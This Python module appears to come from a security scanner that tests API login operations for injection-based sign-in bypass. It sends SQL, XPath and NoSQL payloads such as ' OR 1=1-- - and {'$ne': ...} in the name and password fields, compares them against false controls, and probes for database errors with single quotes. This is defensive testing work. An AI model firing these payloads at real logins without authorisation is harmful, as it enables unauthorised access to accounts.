"""Who signs in with a condition in place of a name was let in by the database."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, Final

from ostiary.controls.input.injection_sql.conditions import APART, ERRORS, NUMBERS
from ostiary.errors import Unanswerable
from ostiary.evidence import Answer, Http
from ostiary.model import Operation
from ostiary.parts.seen.bodies import parse
from ostiary.parts.seen.gists import gist
from ostiary.parts.seen.inputs import Input, inputs, with_members, words
from ostiary.parts.seen.proofs import Proven
from ostiary.parts.seen.trials import BLOCKS, PLAIN, is_good

MOST: Final = 8  # login operations; most APIs have one, and some one for each of their parts or versions
THOROUGH: Final = 2  # that get every form; of others those in which a quote makes a difference
_NAMES: Final = frozenset({"username", "user", "login", "email", "mail", "name", "account", "phone"})
_SECRETS: Final = frozenset({"password", "passwd", "pass", "pwd", "pin", "secret"})


async def proven(http: Http) -> list[Proven]:
    """Try each login as nobody: what is false must not open, or the true one proves nothing."""
    found = []
    logins = [each for each in http.operations if each.role == "login" or http.purpose(each) == "login"]
    for number, operation in enumerate(logins[:MOST]):
        try:
            one = await _tried(http, operation, thorough=number < THOROUGH)
        except Unanswerable:
            continue
        found += [one] if one is not None else []
    return found


async def _tried(http: Http, operation: Operation, *, thorough: bool) -> Proven | None:
    texts = [each for each in inputs(http, operation) if each.place is None]
    name = next((each for each in texts if not _NAMES.isdisjoint(words(each.name))), None)
    secret = next((each for each in texts if not _SECRETS.isdisjoint(words(each.name))), None)
    if name is None or secret is None:
        return None
    usual = await _sent(http, name, secret, PLAIN, PLAIN)
    if _opened(http, usual, None):
        return None
    quoted = await _sent(http, name, secret, f"{PLAIN}'", PLAIN)
    if not thorough and gist(quoted, f"{PLAIN}'", PLAIN) == gist(usual, PLAIN):
        return None
    return await _entered(http, name, secret, usual) or await _broken(http, name, secret, usual)


async def _entered(http: Http, name: Input, secret: Input, usual: Answer) -> Proven | None:
    for how, technique, opens, shut in _pairs():
        refused = await _sent(http, name, secret, *shut)
        if (refused.status in BLOCKS and refused.status != usual.status) or _opened(http, refused, usual):
            return None
        opened = await _sent(http, name, secret, *opens)
        if not _opened(http, opened, usual) or _opened(http, await _sent(http, name, secret, *shut), usual):
            continue
        proof = f"{opens[0]!r} as {name.name} signs in, {shut[0]!r} does not; nobody has that name"
        pair = (
            (opened, "signed in without a name or a password"),
            (refused, "the same form, refused where it is false"),
        )
        return Proven(name, how, proof, pair, more={"technique": technique, "login": True})
    return None


async def _broken(http: Http, name: Input, secret: Input, usual: Answer) -> Proven | None:
    """One quote makes the database complain, where neither an ordinary text nor a closed quote does."""
    if ERRORS.search(usual.text) is not None:
        return None
    for at in (name, secret):
        answers = []
        for text in (f"{PLAIN}'", f"{PLAIN}''"):
            pair = (text, PLAIN) if at is name else (PLAIN, text)
            answers.append(await _sent(http, name, secret, *pair))
        one, two = answers
        if ERRORS.search(one.text) is not None and ERRORS.search(two.text) is None:
            proof = f"{PLAIN + chr(39)!r} as {at.name} ends in an error of the database, with two quotes it does not"
            shown = ((one, "one quote"), (two, "the same text with the quote closed"))
            return Proven(at, "sql", proof, shown, more={"technique": "error", "login": True})
    return None


def _pairs() -> Iterator[tuple[str, str, tuple[Any, Any], tuple[Any, Any]]]:
    """(how, technique, name and password that open, name and password that must not)."""
    one, two = NUMBERS[0], NUMBERS[0] + APART
    for form in (
        PLAIN + "' OR '{one}' LIKE '{two}",
        PLAIN + "' OR {one}={two}-- -",
        PLAIN + "') OR {one}={two}-- -",
        PLAIN + "' OR {one}={two} LIMIT 1-- -",
        PLAIN + '" OR "{one}" LIKE "{two}',
    ):
        true, false = form.format(one=one, two=one), form.format(one=one, two=two)
        yield "sql", "boolean", (true, true), (false, false)
    yield "xpath", "boolean", (f"{PLAIN}' or '{one}'='{one}",) * 2, (f"{PLAIN}' or '{one}'='{two}",) * 2
    nobody = f"{PLAIN}none"
    yield "nosql", "operator", ({"$ne": nobody}, {"$ne": nobody}), ({"$eq": nobody}, {"$eq": nobody})
    yield "nosql", "operator", ({"$gt": ""}, {"$gt": ""}), ({"$eq": nobody}, {"$eq": nobody})


async def _sent(http: Http, name: Input, secret: Input, user: Any, password: Any) -> Answer:
    made = http.body_of(name.operation)
    media, body = made if made is not None else ("application/json", b"{}")
    if isinstance(user, dict) and parse(body) is None:
        raise Unanswerable("operators need a body in JSON")
    for at, value in ((name, user), (secret, password)):
        body = with_members(media, body, {at.name: value}, within=at.within)
    return await http.send_to(name.operation, body=body, identity="", fresh=True)


def _opened(http: Http, answer: Answer, usual: Answer | None) -> bool:
    """Signed in, as logins of this API show it; where that is not known, or is shown otherwise here, accepted without an
    error where a wrong name and password (`usual`) are not.
    """
    try:
        if http.signed_in(answer):
            return True
    except Unanswerable:
        return is_good(answer)
    return usual is not None and is_good(answer) and not usual.accepted
